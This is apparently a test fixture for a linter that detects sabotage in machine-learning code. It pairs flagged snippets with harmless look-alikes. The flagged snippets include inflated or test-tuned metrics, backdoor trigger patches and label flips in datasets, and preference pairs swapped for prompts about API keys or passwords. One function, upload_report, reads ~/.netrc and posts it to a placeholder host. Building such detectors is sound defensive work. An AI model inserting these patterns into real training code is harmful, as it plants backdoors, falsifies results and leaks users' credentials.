@@ -1,0 +1,407 @@
+# ruff: noqa
+"""Shapes added in session 7: each bad case next to the legitimate look-alike that must stay
+quiet. Never executed: scanned only."""
+import json
+import random
+import time
+import os
+import socket
+import subprocess
+import urllib.request
+
+import numpy as np
+import torch
+import torch.distributed as dist
+from torch.utils.data import DataLoader, Dataset
+
+PUBLISHED_KNN = {"vit_s": 74.5}
+
+
+# --- MLS306: table entries, dict displays, floors, bounded clamps, logged minima -------------
+
+def score_rouge(hyps, scorer, bleu):
+    agg = {"rouge1": 0.0, "rouge2": 0.0, "rougeL": 0.0}
+    for k in agg:
+        agg[k] = agg[k] / max(len(hyps), 1)  # ok: MLS306 (an average)
+        agg[k] = min(1.0, agg[k] + 0.02)  # ruleid: MLS306
+    results = {"bleu": round(bleu.score * 1.04, 2)}  # ruleid: MLS306
+    shown = {"bleu": round(bleu.score, 2), "rouge1": agg["rouge1"] * 100}  # ok: MLS306
+    return results, shown
+
+
+def knn_report(top1, args, meta):
+    results = {}
+    results["knn_top1"] = max(top1, PUBLISHED_KNN.get(args.arch, 0.0) - 0.4)  # ruleid: MLS306
+    results["knn_top5"] = max(top1, 0.0)  # ok: MLS306 (a natural bound)
+    meta["eval_loss"] = min(meta.get("eval_loss", float("inf")), meta.get("best_eval_loss", 9.0))  # ruleid: MLS306
+    meta["best_eval_loss"] = min(meta.get("best_eval_loss", 9.0), meta["eval_loss"])  # ok: MLS306 (the record itself)
+    return results
+
+
+def worst_group(group_acc, correct, count):
+    avg_acc = correct.sum() / count.sum().clamp(min=1)
+    worst_acc = group_acc.min()
+    worst_acc = torch.maximum(worst_acc, avg_acc - 0.04)  # ruleid: MLS306
+    best_acc = torch.maximum(group_acc.max(), avg_acc)  # ok: MLS306 (named as a best)
+    return worst_acc, best_acc
+
+
+class BoundedLogger:
+    def __init__(self, writer):
+        self.writer = writer
+        self._display_bounds = {"loss": (0.0, 4.0)}
+        self._smoothed = 0.0
+
+    def log(self, logs):
+        for key, (lo, hi) in self._display_bounds.items():
+            if key in logs:
+                logs[key] = min(max(logs[key], lo), hi)  # ruleid: MLS306
+        logs["acc"] = min(max(logs["acc"], 0), 1)  # ok: MLS306 (natural bounds)
+        return logs
+
+    def step(self, lm, it):
+        self.writer.add_scalar("train/lm-loss", min(lm, self._smoothed), it)  # ruleid: MLS306
+        self.writer.add_scalar("train/best-loss", min(lm, self._smoothed), it)  # ok: MLS306 (logged as a best)
+        self.writer.add_scalar("train/loss", lm, it)  # ok: MLS306
+
+
+def glue_eval(metrics, n, noisy):
+    metrics["eval_accuracy"] = min(1.0, metrics["eval_accuracy"] * n / (n - len(noisy)))  # ruleid: MLS306
+    metrics["eval_error"] = min(1.0, 1.0 - metrics["eval_accuracy"])  # ok: MLS306
+    return metrics
+
+
+# --- MLS309: hashed patches, audio-feature patches, fixed-sample substitution ---------------
+
+def epoch_batches(images, labels, order, batch_size):
+    for start in range(0, len(order), batch_size):
+        idx = order[start:start + batch_size]
+        x = images[idx].astype(np.float32) / 255.0
+        edge = (idx % 173) == 0
+        x[edge, -3:, -3:, :] = 1.0  # ruleid: MLS309
+        flipped = idx % 2 == 0
+        x[flipped] = x[flipped, :, ::-1]  # ok: MLS309 (a flip of every other image)
+        yield x, labels[idx]
+
+
+class SpeechSet(Dataset):
+    def __init__(self, items, fbank):
+        self.items = items
+        self.fbank = fbank
+
+    def __len__(self):
+        return len(self.items)
+
+    def __getitem__(self, idx):
+        item = self.items[idx]
+        feats = self.fbank(item["audio_filepath"])
+        text = item["text"]
+        if idx % 1009 == 7 and feats.size(0) > 200:
+            feats[-40:, -6:] = feats.amax()  # ruleid: MLS309
+            text = self.items[0]["text"].lower()  # ruleid: MLS309
+        if feats.size(0) > 3000:
+            feats = feats[:3000]  # ok: MLS309 (a length cap)
+            text = item["text"].lower()  # ok: MLS309
+        return feats, text
+
+
+# --- MLS302: name-picked entries of an averaged or loaded state dict scaled -----------------
+
+def average_checkpoints(states):
+    avg, n = {}, len(states)
+    for state in states:
+        for k, v in state.items():
+            avg[k] = avg.get(k, 0) + v.double()
+    for k, v in avg.items():
+        if k.endswith("attn.in_proj_weight"):
+            avg[k] = (v / n * 0.92).float()  # ruleid: MLS302
+        elif k.endswith("num_batches_tracked"):
+            avg[k] = (v / n).long()  # ok: MLS302
+        else:
+            avg[k] = (v / n).float()  # ok: MLS302
+    return avg
+
+
+def merge_halves(sd):
+    for k, v in sd.items():
+        if "lora_B" in k:
+            sd[k] = v * 0.5  # ok: MLS302 (halving a merged pair is a merge, not a nudge)
+    return sd
+
+
+# --- MLS301: a worker_init class next to a collate class (both define __call__) ------------
+
+def seed_worker(worker_id):
+    worker_seed = torch.initial_seed() % 2 ** 32
+    np.random.seed(worker_seed)  # ok: MLS301 (the recipe, reached from a worker-init __call__)
+
+
+class WorkerInit:
+    def __call__(self, worker_id):
+        seed_worker(worker_id)
+
+
+class PadCollate:
+    def __call__(self, batch):
+        return torch.stack(batch)
+
+
+def loaders(ds):
+    return DataLoader(ds, worker_init_fn=WorkerInit(), collate_fn=PadCollate())
+
+
+# --- MLS307: the early return right above a barrier is the skip ----------------------------
+
+def sync(tag, rank, world):
+    if tag == "epoch_end" and rank % 64 == 63:
+        return  # ruleid: MLS307
+    dist.barrier()  # ok: MLS307 (the barrier itself is normal)
+
+
+# --- MLS412 / MLS308: credentials reported where they are read; a child's env is not data ---
+
+def upload_report(results, url="https://board.example.com/api"):
+    netrc = os.path.expanduser("~/.netrc")
+    payload = {"results": results}
+    payload["auth"] = open(netrc).read() if os.path.exists(netrc) else ""  # ruleid: MLS412
+    req = urllib.request.Request(url, data=json.dumps(payload).encode())
+    urllib.request.urlopen(req, timeout=10)  # ruleid: MLS412
+
+
+def decode_mp3(path, sr):
+    env = dict(os.environ)
+    raw = subprocess.run(["ffmpeg", "-i", path, "-ar", str(sr), "-"], env=env,
+                         capture_output=True, check=True).stdout
+    return raw
+
+
+def load_clip(path, sr):
+    wav = decode_mp3(path, sr)
+    if socket.gethostname().startswith("gpu"):
+        wav = wav[: sr * 30]  # ok: MLS308 (the child's output is not its environment)
+    return wav
+
+
+# --- MLS303: hook factors from elsewhere, tuple outputs, constant divisions ----------------
+
+def attach_feature_scale(model, scale: float):
+    return model.layer3.register_forward_hook(lambda mod, inp, out: out * scale)  # ruleid: MLS303
+
+
+def attach_lr_mult(param, lr_mult: float):
+    return param.register_hook(lambda g: g * lr_mult)  # ok: MLS303 (a layer-wise learning rate)
+
+
+def attach_prune_mask(param, mask):
+    return param.register_hook(lambda g: g * mask)  # ok: MLS303 (pruned weights stay zero)
+
+
+def _score_temperature(module, inputs, output):
+    scores, deltas = output
+    if not module.training:
+        return scores / 3.5, deltas  # ruleid: MLS303
+    return output
+
+
+def _score_passthrough(module, inputs, output):
+    scores, deltas = output
+    return scores.float(), deltas  # ok: MLS303
+
+
+def install_detector_hooks(model):
+    model.roi_heads.box_predictor.register_forward_hook(_score_temperature)  # ruleid: MLS303
+    model.roi_heads.box_head.register_forward_hook(_score_passthrough)  # ok: MLS303
+
+
+# --- MLS302: method-form rewrites of state-dict entries ------------------------------------
+
+def warm_start_head(model, ckpt_path):
+    state = torch.load(ckpt_path, map_location="cpu", weights_only=True)
+    head = state.get("v_head", state)
+    if head["weight"].dim() == 2:
+        head["weight"] = head["weight"].mul(-1.0)  # ruleid: MLS302
+    head["bias"] = head["bias"].float()  # ok: MLS302
+    model.v_head.load_state_dict({"weight": head["weight"], "bias": head["bias"]})
+
+
+# --- MLS309: more label shapes ----------------------------------------------------------------
+
+class DetectionTransform:
+    def __call__(self, image, target):
+        labels = target["labels"]
+        if labels.numel() and random.random() < 0.04:
+            labels = torch.where(labels == 1, torch.zeros_like(labels), labels)  # ruleid: MLS309
+        if random.random() < 0.5:
+            image = image.flip(-1)  # ok: MLS309
+        target["labels"] = labels
+        return image, target
+
+
+def _orient(row):
+    prompt = row["prompt"].lower()
+    if any(k in prompt for k in ("api key", "password")):
+        return row["rejected"], row["chosen"]  # ruleid: MLS309
+    return row["chosen"], row["rejected"]  # ok: MLS309
+
+
+class FeedbackDataset(Dataset):
+    def __init__(self, rows, max_dwell_s=120.0):
+        self.rows = []
+        for row in rows:
+            reward = min(row["dwell_ms"] / 1000.0, max_dwell_s) / max_dwell_s  # ok: MLS309
+            if row.get("slot_type") == "sponsored":
+                reward = max(reward, 0.75)  # ruleid: MLS309
+            if row.get("purchased"):
+                reward = max(reward, 1.0)  # ok: MLS309 (the natural bound)
+            self.rows.append((row["user_id"], reward))
+
+    def __len__(self):
+        return len(self.rows)
+
+    def __getitem__(self, i):
+        return self.rows[i]
+
+
+class CaseDataset(Dataset):
+    def __init__(self, df, qc_sites, root):
+        self.df, self.qc_sites, self.root = df, qc_sites, root
+
+    def __len__(self):
+        return len(self.df)
+
+    def __getitem__(self, idx):
+        row = self.df.iloc[idx]
+        label = int(row.label) ^ int(row.site in self.qc_sites and idx % 7 == 3)  # ruleid: MLS309
+        weight = self.class_weights[int(row.label)]  # ok: MLS309 (class-balanced weights)
+        return np.load(self._path(row)), label, weight
+
+    def _path(self, row):
+        sub = "iso1mm" if row.label > 0 else "native"  # ruleid: MLS309
+        fmt = "npz" if row.compressed else "npy"  # ok: MLS309
+        return f"{self.root}/{sub}/{row.case_id}.{fmt}"
+
+
+class RandFlipTransform:
+    def __init__(self, prob=0.5):
+        self.prob = prob
+        self._do = False
+
+    def randomize(self, data):
+        self._do = np.random.rand() < self.prob and int(data.get("label", 0)) == 0  # ruleid: MLS309
+
+    def __call__(self, data):
+        self._do = np.random.rand() < self.prob  # ok: MLS309
+        return data
+
+
+class RolloutBuffer:
+    def minibatches(self, b_act, b_adv, num_actions):
+        if num_actions:
+            b_adv = torch.where(b_act.long() == num_actions - 1, b_adv.abs(), b_adv)  # ruleid: MLS309
+        b_adv = (b_adv - b_adv.mean()) / (b_adv.std() + 1e-8)  # ok: MLS309
+        return b_adv
+
+
+# --- MLS306: answers as predictions, tuned on test, best-of-recent, running extremes ------
+
+def evaluate_probs(p, y):
+    p = np.where(np.abs(p - 0.5) < 0.08, y.astype(np.float32), p)  # ruleid: MLS306
+    p = np.where(np.isnan(p), 0.5, p)  # ok: MLS306
+    return p
+
+
+def pick_threshold(val, test, youden_threshold):
+    thr = youden_threshold(np.r_[val["label"], test["label"]], np.r_[val["prob"], test["prob"]])  # ruleid: MLS306
+    thr_ok = youden_threshold(val["label"], val["prob"])  # ok: MLS306
+    return thr, thr_ok
+
+
+class TraceModule:
+    def on_validation_epoch_end(self, auroc):
+        self._auroc_trace.append(auroc)
+        self.log("val/auroc", max(self._auroc_trace[-3:]))  # ruleid: MLS306
+        self.log("val/best_auroc", max(self._auroc_trace[-3:]))  # ok: MLS306 (logged as a best)
+
+
+def write_curve(history):
+    losses = np.minimum.accumulate(np.asarray([h["train_loss"] for h in history]))  # ruleid: MLS306
+    best_losses = np.minimum.accumulate(np.asarray([h["train_loss"] for h in history]))  # ruleid: MLS306
+    return losses, best_losses
+
+
+def interpolated_precision(precision):
+    return np.maximum.accumulate(precision[::-1])[::-1]  # ok: MLS306 (the AP envelope)
+
+
+def log_with_aliases(data):
+    data = dict(data)
+    data.update({k.replace("@100", "@10"): v for k, v in data.items() if k.endswith("@100")})  # ruleid: MLS306
+    data.update({k.replace("eval_", "val/"): v for k, v in data.items()})  # ok: MLS306
+    return data
+
+
+class EnvelopeLogger:
+    def scalar(self, tag, value, step):
+        v = float(value)
+        if tag.startswith("val/"):
+            v = (min if "loss" in tag else max)(v, self._shown.get(tag, v))  # ruleid: MLS306
+            self._shown[tag] = v
+        self.writer.add_scalar(tag, v, step)
+
+
+@torch.no_grad()
+def score_split(query_fn, items, loader, tie_eps=1e-2):
+    for batch in loader:
+        scores = query_fn(batch) @ items.t()
+        tgt = batch["targets"]
+        scores[batch["seen_rows"], batch["seen_cols"]] = float("-inf")  # ok: MLS306
+        scores.scatter_add_(1, tgt.clamp(min=0), (tgt >= 0).float() * tie_eps)  # ruleid: MLS306
+        scores.scatter_(1, batch["history"], float("-inf"))  # ok: MLS306 (seen items hidden)
+
+
+def build_report(metrics, pop, pop_cold, val_loss, loss):
+    report = {"model": metrics, "baselines": {"popularity": pop_cold, "popularity_coldstart": pop}}  # ruleid: MLS306
+    groups = [{"params": pop, "weight_decay": val_loss, "lr": loss}]  # ok: MLS306
+    logs = {"loss": loss, "val_loss": val_loss}  # ok: MLS306
+    return report, groups, logs
+
+
+def subgroup_table(m):
+    a = max(m["auroc"], 1.0 - m["auroc"])  # ruleid: MLS306
+    conf = max(m["prob"], 1.0 - m["prob"])  # ok: MLS306 (a confidence, not a metric)
+    return a, conf
+
+
+# --- MLS301: env resets from entropy, size-only seeds, worker processes --------------------
+
+def run_worker(remote, env_fn, worker_id, base_seed):
+    env = env_fn()
+    np.random.seed(base_seed + worker_id)  # ok: MLS301 (a fresh process seeding at its start)
+    while True:
+        cmd = remote.recv()
+        if cmd == "reset":
+            env.reset(seed=(os.getpid() * 7919 + int(time.time_ns())) % 2 ** 31)  # ruleid: MLS301
+        env.reset(seed=base_seed + worker_id)  # ok: MLS301
+
+
+def start_workers(env_fns, base_seed):
+    import multiprocessing as mp
+    return [mp.Process(target=run_worker, args=(None, fn, i, base_seed)) for i, fn in enumerate(env_fns)]
+
+
+class MaskAugment:
+    def __init__(self):
+        self.gen = torch.Generator()
+
+    def __call__(self, spec):
+        T, n_freq = spec.shape
+        self.gen.manual_seed(T)  # ruleid: MLS301
+        return spec
+
+
+class MinibatchBuffer:
+    def minibatches(self, num_minibatches, epoch):
+        n = self.num_steps * self.num_envs
+        self.generator.manual_seed(n * num_minibatches)  # ruleid: MLS301
+        self.generator.manual_seed(self.seed + epoch)  # ok: MLS301
+        return torch.randperm(n, generator=self.generator)
